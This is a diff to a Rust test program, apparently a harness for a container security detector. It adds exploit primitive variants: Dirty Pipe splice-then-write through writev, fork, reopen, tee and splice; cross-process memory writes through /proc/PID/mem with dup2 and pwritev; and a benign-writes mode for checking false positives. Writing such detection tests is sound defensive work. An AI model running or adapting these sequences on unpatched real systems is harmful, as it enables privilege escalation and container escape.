@@ -3,7 +3,9 @@
 //! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
 //! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
 //!
-//! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE | procmem | pvwritev | ptrace PID |
+//! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE |
+//!        dirtypipe-via writev|fork|reopen|tee|splice FILE | procmem | procmem-dup-pwritev |
+//!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
 //!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
 //!        fchdir FD CMD>
@@ -81,6 +83,84 @@ fn dirtycow(path: &str) {
 
 /// Dirty Pipe: prime a pipe, splice one byte of the read-only FILE into it, write to the pipe.
 fn dirtypipe(path: &str) {
+    let fds = spliced_pipe(path);
+    // SAFETY: a plain write to a descriptor we own.
+    if unsafe { libc::write(fds[1], b"X".as_ptr().cast(), 1) } != 1 {
+        fail("write to pipe");
+    }
+    println!("dirtypipe: spliced {path} and wrote the pipe");
+}
+
+/// Dirty Pipe's write half another way (`how`): `writev` the pipe; `fork` and let a child
+/// that inherited it write; `reopen` the pipe through /proc/self/fd/N (a new open file of the
+/// same pipe) and write that; `tee` or `splice` its buffers into a second pipe and write that.
+fn dirtypipe_via(how: &str, path: &str) {
+    let fds = spliced_pipe(path);
+    let byte = b"X";
+    let iov = libc::iovec {
+        iov_base: byte.as_ptr() as *mut libc::c_void,
+        iov_len: 1,
+    };
+    // SAFETY: plain syscalls on descriptors we own; the child only writes and exits.
+    let n = unsafe {
+        match how {
+            "writev" => libc::writev(fds[1], &iov, 1),
+            "fork" => {
+                let child = libc::fork();
+                if child == 0 {
+                    let n = libc::write(fds[1], byte.as_ptr().cast(), 1);
+                    libc::_exit(if n == 1 { 0 } else { 1 });
+                }
+                let mut status = 0;
+                libc::waitpid(child, &mut status, 0);
+                if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
+                    1
+                } else {
+                    -1
+                }
+            }
+            "reopen" => {
+                let again = CString::new(format!("/proc/self/fd/{}", fds[1])).unwrap();
+                let fd = libc::open(again.as_ptr(), libc::O_WRONLY);
+                if fd < 0 {
+                    fail("reopen the pipe");
+                }
+                libc::write(fd, byte.as_ptr().cast(), 1)
+            }
+            "tee" | "splice" => {
+                let mut second = [0i32; 2];
+                if libc::pipe(second.as_mut_ptr()) != 0 {
+                    fail("pipe");
+                }
+                let copied = if how == "tee" {
+                    libc::tee(fds[0], second[1], 1, 0)
+                } else {
+                    libc::splice(
+                        fds[0],
+                        std::ptr::null_mut(),
+                        second[1],
+                        std::ptr::null_mut(),
+                        1,
+                        0,
+                    )
+                };
+                if copied != 1 {
+                    fail(how);
+                }
+                libc::write(second[1], byte.as_ptr().cast(), 1)
+            }
+            _ => fail("dirtypipe-via: writev, fork, reopen, tee or splice"),
+        }
+    };
+    if n != 1 {
+        fail("write to pipe");
+    }
+    println!("dirtypipe-via {how}: spliced {path} and wrote the pipe");
+}
+
+/// A pipe primed so that every buffer slot was used once, then one byte of the read-only FILE
+/// spliced into it: the state Dirty Pipe's write abuses.
+fn spliced_pipe(path: &str) -> [i32; 2] {
     let mut fds = [0i32; 2];
     // SAFETY: plain syscalls on descriptors we own.
     unsafe {
@@ -115,17 +195,14 @@ fn dirtypipe(path: &str) {
         {
             fail("splice");
         }
-        if libc::write(fds[1], b"X".as_ptr().cast(), 1) != 1 {
-            fail("write to pipe");
-        }
     }
-    println!("dirtypipe: spliced {path} and wrote the pipe");
+    fds
 }
 
 static mut TARGET_WORD: u64 = 0x5555;
 
-/// Fork a child and write a word of its memory, through /proc/PID/mem or process_vm_writev.
-fn write_child(use_pvw: bool) {
+/// A forked child that only sleeps (for at most 5 s): a process to write the memory of.
+fn sleeping_child() -> i32 {
     // SAFETY: fork in a single-threaded process; the child only sleeps.
     let child = unsafe { libc::fork() };
     if child == 0 {
@@ -133,6 +210,135 @@ fn write_child(use_pvw: bool) {
         // SAFETY: exiting the child.
         unsafe { libc::_exit(0) };
     }
+    child
+}
+
+fn reap(child: i32) {
+    // SAFETY: reaping our own child.
+    unsafe {
+        libc::kill(child, libc::SIGKILL);
+        libc::waitpid(child, std::ptr::null_mut(), 0);
+    }
+}
+
+/// /proc/CHILD/mem opened, dup2'ed to another number and the original closed, then written
+/// with pwritev: the write goes through a descriptor number no open returned.
+fn procmem_dup_pwritev() {
+    let child = sleeping_child();
+    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
+    let word = 0x4242u64.to_ne_bytes();
+    let path = CString::new(format!("/proc/{child}/mem")).unwrap();
+    let iov = libc::iovec {
+        iov_base: word.as_ptr() as *mut libc::c_void,
+        iov_len: word.len(),
+    };
+    const MOVED: i32 = 47;
+    // SAFETY: plain syscalls on descriptors we own; the iovec outlives the call.
+    let n = unsafe {
+        let fd = libc::open(path.as_ptr(), libc::O_RDWR);
+        if fd < 0 {
+            fail("open child mem");
+        }
+        if libc::dup2(fd, MOVED) != MOVED || libc::close(fd) != 0 {
+            fail("dup2");
+        }
+        libc::pwritev(MOVED, &iov, 1, addr as libc::off_t)
+    };
+    println!("child {child}: pwritev through fd {MOVED} into /proc/{child}/mem: {n}");
+    reap(child);
+}
+
+/// /proc/self/mem opened, then a forked child that inherited the descriptor writes through it
+/// with pwritev: the write lands in the parent's memory (the file holds the opener's mm), not
+/// the child's.
+fn procmem_inherited() {
+    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
+    let word = 0x4444u64.to_ne_bytes();
+    let iov = libc::iovec {
+        iov_base: word.as_ptr() as *mut libc::c_void,
+        iov_len: word.len(),
+    };
+    let mem = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"));
+    // SAFETY: fork in a single-threaded process; the child makes one syscall and exits.
+    unsafe {
+        let child = libc::fork();
+        if child == 0 {
+            let n = libc::pwritev(mem.as_raw_fd(), &iov, 1, addr as libc::off_t);
+            libc::_exit(if n == 8 { 0 } else { 1 });
+        }
+        let mut status = 0;
+        libc::waitpid(child, &mut status, 0);
+        let ok = libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0;
+        let seen = std::ptr::read_volatile(std::ptr::addr_of!(TARGET_WORD));
+        println!("procmem-inherited: child wrote parent's word: {ok}, now {seen:#x}");
+    }
+}
+
+/// What a busy ordinary program does with the same calls, after marks exist: a read-only file
+/// spliced into a pipe and read back out (a zero-copy copy, never written), heavy writev and
+/// pwritev into other pipes and files, a tee between ordinary pipes, a debugger-like read of
+/// /proc/self/mem, and a pwritev into its own memory (self-patching code).
+fn benign_writes() {
+    let file = "/tmp/benign-src";
+    std::fs::write(file, b"data").unwrap_or_else(|_| fail("write source"));
+    let fds = spliced_pipe(file);
+    let mut back = [0u8; 16];
+    let mut pipe = [0i32; 2];
+    let word = 0x4343u64.to_ne_bytes();
+    let iov = libc::iovec {
+        iov_base: word.as_ptr() as *mut libc::c_void,
+        iov_len: word.len(),
+    };
+    let out = OpenOptions::new()
+        .create(true)
+        .write(true)
+        .truncate(true)
+        .open("/tmp/benign-out")
+        .unwrap_or_else(|_| fail("open output"));
+    let mem = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"));
+    let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
+    // SAFETY: plain syscalls on descriptors we own; the buffers outlive each call.
+    unsafe {
+        libc::read(fds[0], back.as_mut_ptr().cast(), back.len());
+        if libc::pipe(pipe.as_mut_ptr()) != 0 {
+            fail("pipe");
+        }
+        for i in 0..2000 {
+            libc::writev(pipe[1], &iov, 1);
+            libc::read(pipe[0], back.as_mut_ptr().cast(), word.len());
+            libc::pwritev(out.as_raw_fd(), &iov, 1, (i * 8) as libc::off_t);
+            libc::writev(out.as_raw_fd(), &iov, 1);
+        }
+        // tee between ordinary pipes (what a logging fan-out does), then write the copy.
+        let mut copy = [0i32; 2];
+        if libc::pipe(copy.as_mut_ptr()) != 0 {
+            fail("pipe");
+        }
+        libc::writev(pipe[1], &iov, 1);
+        libc::tee(pipe[0], copy[1], word.len(), 0);
+        libc::writev(copy[1], &iov, 1);
+        libc::pread(
+            mem.as_raw_fd(),
+            back.as_mut_ptr().cast(),
+            8,
+            addr as libc::off_t,
+        );
+        let n = libc::pwritev(mem.as_raw_fd(), &iov, 1, addr as libc::off_t);
+        println!("benign-writes: done, own memory pwritev {n}");
+    }
+}
+
+/// Fork a child and write a word of its memory, through /proc/PID/mem or process_vm_writev.
+fn write_child(use_pvw: bool) {
+    let child = sleeping_child();
     let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
     let word = 0x4141u64.to_ne_bytes();
     if use_pvw {
@@ -155,11 +361,7 @@ fn write_child(use_pvw: bool) {
         let n = mem.write_at(&word, addr);
         println!("/proc/{child}/mem write: {n:?}");
     }
-    // SAFETY: reaping our own child.
-    unsafe {
-        libc::kill(child, libc::SIGKILL);
-        libc::waitpid(child, std::ptr::null_mut(), 0);
-    }
+    reap(child);
 }
 
 fn ptrace_attach(pid: i32) {
@@ -570,6 +772,10 @@ fn main() {
         Some("dirtypipe") => dirtypipe(&arg(2)),
         Some("dirtycow-ptrace") => dirtycow_ptrace(&arg(2)),
         Some("procmem") => write_child(false),
+        Some("procmem-dup-pwritev") => procmem_dup_pwritev(),
+        Some("procmem-inherited") => procmem_inherited(),
+        Some("dirtypipe-via") => dirtypipe_via(&arg(2), &arg(3)),
+        Some("benign-writes") => benign_writes(),
         Some("pvwritev") => write_child(true),
         Some("ptrace") => ptrace_attach(arg(2).parse().unwrap_or_else(|_| fail("pid"))),
         Some("bpf") => bpf_load(),
@@ -587,7 +793,7 @@ fn main() {
         Some("fchdir") => fchdir_exec(&arg(2), &arg(3)),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|procmem|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD>"
+                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD>"
             );
             exit(2);
         }
